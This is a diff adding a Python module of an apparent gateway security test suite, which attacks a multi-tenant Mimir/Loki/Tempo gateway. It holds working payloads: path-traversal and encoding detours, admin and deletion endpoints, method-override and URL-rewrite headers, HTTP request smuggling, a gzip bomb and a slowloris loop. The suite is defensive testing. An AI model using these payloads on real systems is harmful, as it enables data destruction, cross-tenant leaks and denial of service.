@@ -1,0 +1,724 @@
+"""Attacks on the gateway's list of routes: paths, methods, bodies and framing."""
+
+from __future__ import annotations
+
+import gzip
+import socket
+from collections.abc import Callable, Iterable, Iterator
+from dataclasses import dataclass, replace
+
+from stackproof.attacks.base import LOOKED_FOR, Attack, Door, Expect, Raid
+from stackproof.attacks.wire import Answer, Raw, Shot, http1, send
+from stackproof.backends import PROVABLE
+from stackproof.stack.base import TENANT_HEADER, Backend, Signal
+
+_ALL = tuple(Signal)
+_QUERIES = tuple(api for api in PROVABLE if api.id in LOOKED_FOR.values())
+
+
+# --- what must not be reachable at all ------------------------------------------------------------
+
+
+@dataclass(frozen=True, slots=True)
+class _Api:
+    """A group of endpoints of the backends that no tenant has any business with."""
+
+    name: str
+    does: str
+    source: str
+    requests: tuple[str, ...]
+    """`METHOD PATH`; a trusting gateway passes /tempo/… to Tempo, /loki/… to Loki, the rest to
+    Mimir."""
+    body: bytes = b""
+    destroys: bool = False
+    passes: str = ""
+
+
+_RULES = b"name: g\nrules: [{record: a, expr: vector(1)}]\nsource_tenants: [soev]\n"
+_CLOSED = (
+    _Api(
+        "configuration",
+        "reads configurations",
+        "CVE-2026-28377: Tempo prints a storage key in /status/config",
+        (
+            "GET /config",
+            "GET /loki/config",
+            "GET /tempo/status/config",
+            "GET /tempo/status",
+            "GET /runtime_config",
+            "GET /config/tenant/v1/limits",
+            "GET /api/v1/user_limits",
+        ),
+    ),
+    _Api(
+        "metrics-of-the-backends",
+        "reads the backends' own metrics, which name every tenant",
+        "/metrics asks nobody who it is (observed, all three)",
+        ("GET /metrics", "GET /loki/metrics", "GET /tempo/metrics"),
+    ),
+    _Api(
+        "other-tenants-limits",
+        "reads another tenant's overrides",
+        "Tempo's /status/overrides/TENANT asks nobody who it is (observed)",
+        ("GET /tempo/status/overrides", "GET /tempo/status/overrides/soev"),
+    ),
+    _Api(
+        "lists-of-tenants",
+        "lists tenants and their figures",
+        "Mimir's admin pages ask nobody who it is (observed)",
+        (
+            "GET /ingester/tenants",
+            "GET /ingester/tsdb/soev",
+            "GET /distributor/all_user_stats",
+            "GET /compactor/tenants",
+            "GET /store-gateway/tenants",
+            "GET /store-gateway/tenant/soev/blocks",
+            "GET /ruler/tenants",
+            "GET /api/v1/user_stats",
+        ),
+    ),
+    _Api(
+        "rings",
+        "reads the rings, and forgets a member",
+        "ring pages have a form that removes an instance",
+        (
+            "GET /ingester/ring",
+            "POST /ingester/ring",
+            "GET /distributor/ring",
+            "GET /compactor/ring",
+            "GET /ring",
+            "GET /loki/ring",
+            "GET /tempo/ingester/ring",
+            "GET /memberlist",
+            "GET /services",
+        ),
+    ),
+    _Api(
+        "flush",
+        "flushes what is held in memory",
+        "POST /flush answers 204 without a header (observed, Loki)",
+        (
+            "POST /flush",
+            "GET /ingester/flush",
+            "POST /ingester/flush",
+            "POST /loki/flush",
+            "POST /tempo/flush",
+        ),
+        destroys=True,
+    ),
+    _Api(
+        "shutdown",
+        "shuts ingesters down",
+        "POST /ingester/shutdown asks nobody who it is",
+        (
+            "POST /ingester/shutdown",
+            "GET /ingester/prepare-shutdown",
+            "POST /ingester/prepare-shutdown",
+            "POST /loki/ingester/shutdown",
+            "POST /tempo/shutdown",
+            "GET /tempo/shutdown",
+        ),
+        destroys=True,
+    ),
+    _Api(
+        "deletion-of-a-tenant",
+        "deletes a tenant's metrics",
+        "Mimir's POST /compactor/delete_tenant takes the tenant from the header",
+        ("POST /compactor/delete_tenant", "GET /compactor/delete_tenant_status"),
+        destroys=True,
+    ),
+    _Api(
+        "deletion-of-logs",
+        "deletes log lines",
+        "Loki's delete API takes the tenant from the header",
+        (
+            "POST /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000",
+            "PUT /loki/api/v1/delete?query=%7Bservice_name%3D%22open-webui%22%7D&start=1700000000",
+            "GET /loki/api/v1/delete",
+            "GET /loki/api/v1/cache/generation_numbers",
+            "POST /prometheus/api/v1/admin/tsdb/delete_series?match[]=up",
+        ),
+        destroys=True,
+    ),
+    _Api(
+        "rules-of-mimir",
+        "reads every tenant's rules, and sets one that reads the victim",
+        "GET /ruler/rule_groups dumps all rules without a header (observed)",
+        (
+            "GET /ruler/rule_groups",
+            "GET /ruler/ring",
+            "GET /prometheus/config/v1/rules",
+            "POST /prometheus/config/v1/rules/attack",
+            "DELETE /prometheus/config/v1/rules/attack",
+            "GET /prometheus/api/v1/rules",
+            "GET /prometheus/api/v1/alerts",
+            "GET /api/v1/alerts",
+            "POST /api/v1/alerts",
+        ),
+        _RULES,
+    ),
+    _Api(
+        "rules-of-loki",
+        "reads and sets rules of logs, with a traversal",
+        "CVE-2026-21726: double-encoded traversal in the rules' namespace",
+        (
+            "GET /loki/api/v1/rules",
+            "POST /loki/api/v1/rules/attack",
+            "GET /loki/api/v1/rules/%252e%252e%252fsoev",
+            "GET /loki/api/v1/rules/%2e%2e%2fsoev/g",
+            "GET /prometheus/api/v1/rules?type=alert",
+            "GET /api/prom/rules",
+        ),
+        _RULES,
+    ),
+    _Api(
+        "cardinality",
+        "reads label and series counts",
+        "the cardinality API is expensive, and off",
+        (
+            "GET /prometheus/api/v1/cardinality/label_names",
+            "GET /prometheus/api/v1/cardinality/label_values?label_names[]=job",
+            "GET /prometheus/api/v1/cardinality/active_series?selector=%7Bjob!%3D%22%22%7D",
+            "GET /loki/api/v1/patterns?query=%7Bservice_name%3D%22open-webui%22%7D",
+            "GET /tempo/api/metrics/summary?q=%7B%7D&groupBy=name",
+        ),
+        passes="these APIs are switched off in the backends",
+    ),
+    _Api(
+        "old-push-paths",
+        "writes and tails by the paths of older versions",
+        "Loki's /api/prom/push, Cortex' /api/prom/push, Influx, Zipkin, Jaeger",
+        (
+            "POST /api/prom/push",
+            "GET /api/prom/tail?query=%7Bservice_name%3D%22open-webui%22%7D",
+            "GET /api/prom/query?query=%7Bservice_name%3D%22open-webui%22%7D",
+            "POST /api/v1/push/influx/write",
+            "POST /v1/traces",
+            "POST /v1/logs",
+            "POST /api/v2/spans",
+            "POST /api/traces",
+            "POST /loki/v1/logs",
+        ),
+        passes="no backend serves these paths any more",
+    ),
+    _Api(
+        "profiles",
+        "reads the backends' profiles",
+        "pprof shows memory, with everybody's data in it",
+        (
+            "GET /debug/pprof/",
+            "GET /debug/pprof/cmdline",
+            "GET /debug/fgprof",
+            "GET /loki/debug/pprof/cmdline",
+            "GET /tempo/debug/pprof/cmdline",
+        ),
+    ),
+    _Api(
+        "log-levels-and-overrides",
+        "sets log levels and limits",
+        "Tempo's user-configurable overrides, and Loki's log_level",
+        (
+            "POST /loki/log_level?log_level=debug",
+            "GET /tempo/api/overrides",
+            "POST /tempo/api/overrides",
+            "DELETE /tempo/api/overrides",
+            "POST /partition-ring",
+        ),
+    ),
+    _Api(
+        "gateways-own-api",
+        "looks for the gateway's own administration",
+        "Caddy's admin API reloads the configuration",
+        (
+            "GET /config/",
+            "POST /load",
+            "GET /reverse_proxy/upstreams",
+            "GET /id/",
+            "POST /stop",
+            "GET /Caddyfile",
+            "GET /etc/gateway-users/users",
+        ),
+        passes="it listens nowhere in any variant (admin off)",
+    ),
+)
+
+
+def _requests(api: _Api, raid: Raid, *lines: str) -> Iterator[Raw]:
+    for request in api.requests:
+        method, path = request.split(" ", 1)
+        body = api.body if method in {"POST", "PUT"} else None
+        yield http1(raid.gateway, method, path, [raid.own, *lines], body)
+
+
+def _closed(api: _Api) -> Iterator[Attack]:
+    yield Attack(
+        name=f"reaches-{api.name}",
+        door=Door.GATEWAY,
+        does=f"{api.does}, with its own password and with the victim's name in the header",
+        source=api.source,
+        destroys=api.destroys,
+        passes_on_trusting_gateway=api.passes,
+        sends=lambda raid: (
+            shot
+            for lines in ((), (f"{TENANT_HEADER}: {raid.attacker}",))
+            for shot in _requests(api, raid, *lines)
+        ),
+    )
+
+
+# --- detours --------------------------------------------------------------------------------------
+
+
+def _path(shot: Raw) -> tuple[bytes, bytes]:
+    """Return path and the rest of the target of a request."""
+    target = shot.data.split(b" ")[1]
+    path, mark, query = target.partition(b"?")
+    return path, mark + query
+
+
+def _with_path(shot: Raw, path: bytes) -> Raw:
+    old, _ = _path(shot)
+    return replace(shot, data=shot.data.replace(old, path, 1))
+
+
+def _every_path(change: Callable[[bytes], bytes]) -> Callable[[Raid], Iterator[Shot]]:
+    """Send the whole list of reads and writes with changed paths, as the attacker."""
+
+    def sends(raid: Raid) -> Iterator[Shot]:
+        for shot in (*raid.reads(raid.own), *raid.writes(raid.own)):
+            yield _with_path(shot, change(_path(shot)[0]))
+
+    return sends
+
+
+def _last_slash(path: bytes, new: bytes) -> bytes:
+    head, _, tail = path.rpartition(b"/")
+    return head + new + tail
+
+
+@dataclass(frozen=True, slots=True)
+class _Detour:
+    name: str
+    does: str
+    change: Callable[[bytes], bytes]
+    expect: Expect = Expect.REFUSED
+
+
+_NO_PATH = "no backend serves the changed path, or it is but another spelling of an allowed one"
+#: What a gateway that matches prefixes and cleans paths lets through to the same API.
+_CLEANED = (
+    "double-slash",
+    "inner-double-slash",
+    "dot",
+    "dots",
+    "encoded-slash",
+    "encoded-letter",
+    "trailing-dots",
+)
+_DETOURS = (
+    _Detour("double-slash", "//prometheus/…", lambda path: b"/" + path),
+    _Detour("inner-double-slash", "…/api//v1/…", lambda path: _last_slash(path, b"//")),
+    _Detour("dot", "/./prometheus/…", lambda path: b"/." + path),
+    _Detour("dots", "/x/../prometheus/…", lambda path: b"/x/.." + path),
+    _Detour("encoded-dots", "/x/%2e%2e/prometheus/…", lambda path: b"/x/%2e%2e" + path),
+    _Detour("twice-encoded", "/x/%252e%252e/…", lambda path: b"/x/%252e%252e" + path),
+    _Detour("encoded-slash", "…/v1%2fquery", lambda path: _last_slash(path, b"%2f")),
+    _Detour("encoded-letter", "/%70rometheus/…", lambda path: b"/%%%02x" % path[1] + path[2:]),
+    _Detour("backslash", "/prometheus\\api\\…", lambda path: b"/" + path[1:].replace(b"/", b"\\")),
+    _Detour("semicolon", "/prometheus/…/query;x", lambda path: path + b";x"),
+    _Detour("encoded-semicolon", "…/query%3bx", lambda path: path + b"%3bx"),
+    _Detour("trailing-slash", "…/query/", lambda path: path + b"/"),
+    _Detour("trailing-dots", "…/query/x/..", lambda path: path + b"/x/.."),
+    _Detour("capitals", "/PROMETHEUS/…", lambda path: path.upper()),
+    _Detour("null", "…/query%00", lambda path: path + b"%00"),
+    _Detour("line-break", "…/query%0d%0aX-Scope-OrgID:%20soev", lambda path: path + b"%0d%0aX:y"),
+    _Detour("encoded-question-mark", "…/query%3f", lambda path: path + b"%3f"),
+    _Detour("fragment", "…/query#x", lambda path: path + b"#x", Expect.HARMLESS),
+    _Detour("prefix", "/x/prometheus/…", lambda path: b"/x" + path),
+    _Detour("suffix", "…/queryx", lambda path: path + b"x"),
+    _Detour(
+        "absolute-uri",
+        "http://gateway/prometheus/…",
+        lambda path: b"http://gateway" + path,
+        Expect.HARMLESS,
+    ),
+    _Detour(
+        "absolute-uri-of-a-backend",
+        "http://mimir:9009/prometheus/… as to a proxy",
+        lambda path: b"http://mimir:9009" + path,
+        Expect.HARMLESS,
+    ),
+    _Detour("no-leading-slash", "prometheus/…", lambda path: path[1:]),
+)
+
+
+def _detours() -> Iterator[Attack]:
+    for detour in _DETOURS:
+        yield Attack(
+            name=f"detour-{detour.name}",
+            door=Door.GATEWAY,
+            does=f"asks and exports everything by a detour: {detour.does}",
+            source="path confusion between a proxy and what is behind it",
+            expect=detour.expect,
+            sends=_every_path(detour.change),
+            writes=_ALL,
+            passes_on_trusting_gateway="" if detour.name in _CLEANED else _NO_PATH,
+        )
+
+
+#: From a path that is allowed to one that is not.
+_CLIMBS = (
+    "/loki/api/v1/query/../delete",
+    "/loki/api/v1/label/../../../../flush",
+    "/loki/api/v1/label/x/values/../../../delete",
+    "/loki/api/v1/label/%2e%2e/values",
+    "/loki/api/v1/detected_field/..%2f..%2fdelete/values",
+    "/prometheus/api/v1/label/x%2f..%2f..%2f/values",
+    "/prometheus/api/v1/label/../../../../config/values",
+    "/prometheus/../config",
+    "/prometheus/..%2fconfig",
+    "/prometheus%2f..%2fconfig",
+    "/tempo/api/traces/../../status/config",
+    "/tempo/api/traces/%2e%2e/%2e%2e/status/config",
+    "/tempo/api/search/tag/..%2f..%2f..%2fstatus%2fconfig/values",
+    "/tempo/../loki/api/v1/delete",
+    "/tempo/..;/status/config",
+    "/tempo//status/config",
+    "/tempo/status/config#/api/echo",
+    "/tempo/status/config?/tempo/api/echo",
+    "/otlp/../flush",
+    "/-/ready/../config",
+)
+
+
+def _climbs(raid: Raid) -> Iterator[Shot]:
+    return (
+        http1(raid.gateway, method, path, [raid.own], b"" if method == "POST" else None)
+        for path in _CLIMBS
+        for method in ("GET", "POST")
+    )
+
+
+# --- methods --------------------------------------------------------------------------------------
+
+_METHODS = ("PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get")
+
+
+def _wrong_methods(raid: Raid) -> Iterator[Shot]:
+    for method in (*_METHODS, "POST"):
+        for api in _QUERIES:
+            if method == "POST" and api.backend is not Backend.TEMPO:
+                continue  # the other two take questions by POST as well
+            shot = raid.read(api, raid.own)
+            yield replace(shot, data=shot.data.replace(b"GET", method.encode(), 1))
+
+
+def _wrong_write_methods(raid: Raid) -> Iterator[Shot]:
+    for method in (*_METHODS, "GET"):
+        for shot in raid.writes(raid.own):
+            yield replace(shot, data=shot.data.replace(b"POST", method.encode(), 1))
+
+
+_OVERRIDES = (
+    "X-HTTP-Method-Override: DELETE",
+    "X-HTTP-Method: DELETE",
+    "X-Method-Override: DELETE",
+    "X-Original-Method: DELETE",
+)
+_REWRITES = (
+    "X-Original-URL: {path}",
+    "X-Rewrite-URL: {path}",
+    "X-Original-URI: {path}",
+    "X-Forwarded-Uri: {path}",
+    "X-Forwarded-Path: {path}",
+    "X-Forwarded-Prefix: /../..",
+    "X-Forwarded-Host: mimir:9009",
+    "X-Forwarded-For: 127.0.0.1",
+    "X-Real-IP: 127.0.0.1",
+    "X-Custom-IP-Authorization: 127.0.0.1",
+)
+
+
+def _rewritten(raid: Raid) -> Iterator[Shot]:
+    for path in ("/flush", "/config", "/loki/api/v1/delete"):
+        yield from raid.few(raid.own, *(line.format(path=path) for line in _REWRITES))
+
+
+def _overridden(raid: Raid) -> Iterator[Shot]:
+    yield from raid.writes(raid.own, *_OVERRIDES)
+
+
+# --- bodies and framing ---------------------------------------------------------------------------
+
+_MEBIBYTE = 1 << 20
+
+
+def _padded(raid: Raid, signal: Signal, size: int) -> bytes:
+    """The forged telemetry, then a field that no OTLP message has, to the wanted size."""
+    payload = raid.payload(signal)
+    # Field 2047, bytes: protobuf keeps what it does not know.
+    head = b"\xfa\x7f"
+    rest = size - len(payload) - len(head) - 4
+    length = bytes(
+        (rest & 0x7F | 0x80, rest >> 7 & 0x7F | 0x80, rest >> 14 & 0x7F | 0x80, rest >> 21)
+    )
+    return payload + head + length + bytes(rest)
+
+
+def _oversize(raid: Raid) -> Iterator[Shot]:
+    for signal in Signal:
+        yield http1(
+            raid.gateway,
+            "POST",
+            f"/otlp/v1/{signal}",
+            [raid.own, "Content-Type: application/x-protobuf"],
+            _padded(raid, signal, 17 * _MEBIBYTE),
+        )
+
+
+def _oversize_chunked(raid: Raid) -> Iterator[Shot]:
+    for signal in Signal:
+        body = _padded(raid, signal, 17 * _MEBIBYTE)
+        yield http1(
+            raid.gateway,
+            "POST",
+            f"/otlp/v1/{signal}",
+            [raid.own, "Content-Type: application/x-protobuf", "Transfer-Encoding: chunked"],
+            b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body),
+        )
+
+
+def _bomb(raid: Raid) -> Iterator[Shot]:
+    for signal in Signal:
+        body = gzip.compress(_padded(raid, signal, 64 * _MEBIBYTE), 1)
+        yield http1(
+            raid.gateway,
+            "POST",
+            f"/otlp/v1/{signal}",
+            [raid.own, "Content-Type: application/x-protobuf", "Content-Encoding: gzip"],
+            body,
+        )
+
+
+def _smuggled(raid: Raid) -> bytes:
+    """Behind the first request: a question as a backend would answer it, naming the victim."""
+    shots = [raid.read(api, f"{TENANT_HEADER}: {raid.victim}") for api in _QUERIES]
+    return b"".join(shot.data for shot in shots)
+
+
+def _framed(*lines: str, body: Callable[[bytes], bytes]) -> Callable[[Raid], Iterator[Shot]]:
+    """Export with contradicting framing, so that a part of the body is another request to some."""
+
+    def sends(raid: Raid) -> Iterator[Shot]:
+        smuggled = _smuggled(raid)
+        for path in ("/otlp/v1/metrics", "/otlp/v1/logs", "/otlp/v1/traces"):
+            data = body(smuggled)
+            filled = [line.format(length=len(data), part=4) for line in lines]
+            yield http1(
+                raid.gateway,
+                "POST",
+                path,
+                [raid.own, "Content-Type: application/x-protobuf", *filled],
+                data,
+                linger_s=0.3,
+            )
+
+    return sends
+
+
+_END = b"0\r\n\r\n"
+_SMUGGLING: tuple[tuple[str, str, Callable[[Raid], Iterator[Shot]]], ...] = (
+    (
+        "length-and-chunks",
+        "Content-Length and Transfer-Encoding: chunked (CL.TE)",
+        _framed(
+            "Content-Length: {length}",
+            "Transfer-Encoding: chunked",
+            body=lambda smuggled: _END + smuggled,
+        ),
+    ),
+    (
+        "chunks-and-short-length",
+        "Transfer-Encoding: chunked and a short Content-Length (TE.CL)",
+        _framed(
+            "Transfer-Encoding: chunked",
+            "Content-Length: {part}",
+            body=lambda smuggled: b"%x\r\n%s\r\n" % (len(smuggled), smuggled) + _END,
+        ),
+    ),
+    (
+        "strange-encoding",
+        "a Transfer-Encoding that is not quite chunked (TE.TE)",
+        _framed(
+            "Transfer-Encoding: xchunked",
+            "Transfer-Encoding:\tchunked",
+            "Content-Length: {part}",
+            body=lambda smuggled: _END + smuggled,
+        ),
+    ),
+    (
+        "two-lengths",
+        "two different Content-Lengths (CL.CL)",
+        _framed(
+            "Content-Length: 0",
+            "Content-Length: {length}",
+            body=lambda smuggled: smuggled,
+        ),
+    ),
+    (
+        "signed-length",
+        "a Content-Length with a sign",
+        _framed("Content-Length: +{length}", body=lambda smuggled: smuggled),
+    ),
+    (
+        "zero-length",
+        "a Content-Length of 0 and a second request behind it (no trick: it is on its own)",
+        _framed("Content-Length: 0", body=lambda smuggled: smuggled),
+    ),
+    (
+        "chunk-extension",
+        "a chunk whose size is followed by an extension with a line feed alone",
+        _framed(
+            "Transfer-Encoding: chunked",
+            body=lambda smuggled: b"1;x=\n" + b"a\r\n" + _END + smuggled,
+        ),
+    ),
+    (
+        "long-chunk-size",
+        "a chunk size of more than 64 bits",
+        _framed(
+            "Transfer-Encoding: chunked",
+            body=lambda smuggled: b"1" + b"0" * 16 + b"\r\n" + _END + smuggled,
+        ),
+    ),
+    (
+        "expectation",
+        "Expect: 100-continue, and the body at once",
+        _framed(
+            "Expect: 100-continue",
+            "Content-Length: {length}",
+            body=lambda smuggled: smuggled,
+        ),
+    ),
+)
+
+
+#: Those in which every server sees two requests: a gateway that believes headers answers both.
+_SEEN_AS_TWO = ("length-and-chunks", "zero-length")
+_FRAMES = "Go's parser takes it for one request, or refuses it"
+
+
+def _smuggling() -> Iterator[Attack]:
+    for name, does, sends in _SMUGGLING:
+        yield Attack(
+            name=f"smuggle-{name}",
+            door=Door.GATEWAY,
+            does=f"hides a question about the victim behind {does}",
+            source="RFC 9112 §11.2: request smuggling",
+            expect=Expect.HARMLESS,
+            sends=sends,
+            passes_on_trusting_gateway="" if name in _SEEN_AS_TWO else _FRAMES,
+        )
+
+
+def _slow(raid: Raid) -> Iterable[str]:
+    """With 200 half requests open, somebody else is still answered."""
+    held = [socket.create_connection(raid.gateway) for _ in range(200)]
+    try:
+        for connection in held:
+            connection.sendall(
+                b"POST /otlp/v1/logs HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n"
+            )
+        answers: list[Answer] = [send(shot) for shot in raid.few(raid.own)]
+        for answer in answers:
+            if not answer.statuses or answer.statuses[0] >= 500:
+                yield f"others are not answered: {answer.describe()}"
+    finally:
+        for connection in held:
+            connection.close()
+
+
+ROUTES: tuple[Attack, ...] = (
+    *(attack for api in _CLOSED for attack in _closed(api)),
+    *_detours(),
+    Attack(
+        name="climbs-from-allowed-paths",
+        door=Door.GATEWAY,
+        does="goes from an allowed path to another by dots, encoded or not",
+        source="CVE-2026-27880, CVE-2026-22641: slashes past a proxy's rules",
+        sends=_climbs,
+    ),
+    Attack(
+        name="wrong-methods",
+        door=Door.GATEWAY,
+        does="asks with methods that no question needs",
+        source="RFC 9110 §9",
+        sends=_wrong_methods,
+        passes_on_trusting_gateway="the backends refuse these methods themselves",
+    ),
+    Attack(
+        name="wrong-methods-writing",
+        door=Door.GATEWAY,
+        does="exports with methods that no export needs",
+        source="RFC 9110 §9",
+        sends=_wrong_write_methods,
+        writes=_ALL,
+        passes_on_trusting_gateway="the backends refuse these methods themselves",
+    ),
+    Attack(
+        name="method-override",
+        door=Door.GATEWAY,
+        does="exports with headers that make DELETE of POST",
+        source="X-HTTP-Method-Override and its kin",
+        expect=Expect.NEUTRALISED,
+        sends=_overridden,
+        writes=_ALL,
+        passes_on_trusting_gateway="no backend knows these headers",
+    ),
+    Attack(
+        name="rewritten-url",
+        door=Door.GATEWAY,
+        does="asks with headers that name another URL, host or client",
+        source="CVE-2018-14773: X-Original-URL",
+        expect=Expect.NEUTRALISED,
+        sends=_rewritten,
+        passes_on_trusting_gateway="no backend knows these headers",
+    ),
+    Attack(
+        name="oversize-body",
+        door=Door.GATEWAY,
+        does="exports 17 MiB with each signal",
+        source="what a gateway does not bound, a backend buffers",
+        sends=_oversize,
+        writes=_ALL,
+    ),
+    Attack(
+        name="oversize-body-in-chunks",
+        door=Door.GATEWAY,
+        does="exports 17 MiB with each signal, without saying so beforehand",
+        source="a limit that looks at Content-Length only",
+        sends=_oversize_chunked,
+        writes=_ALL,
+    ),
+    Attack(
+        name="compressed-bomb",
+        door=Door.GATEWAY,
+        does="exports 64 MiB, compressed to a few hundred KiB",
+        source="a limit on the compressed size only",
+        expect=Expect.HARMLESS,
+        sends=_bomb,
+        writes=_ALL,
+        passes_on_trusting_gateway="the backends bound what they decompress",
+    ),
+    *_smuggling(),
+    Attack(
+        name="half-requests",
+        door=Door.GATEWAY,
+        does="holds 200 connections with half a request each",
+        source="slowloris",
+        expect=Expect.HARMLESS,
+        sends=lambda _: (),
+        after=_slow,
+        passes_on_trusting_gateway="a connection costs Go a goroutine, whatever it believes",
+    ),
+)
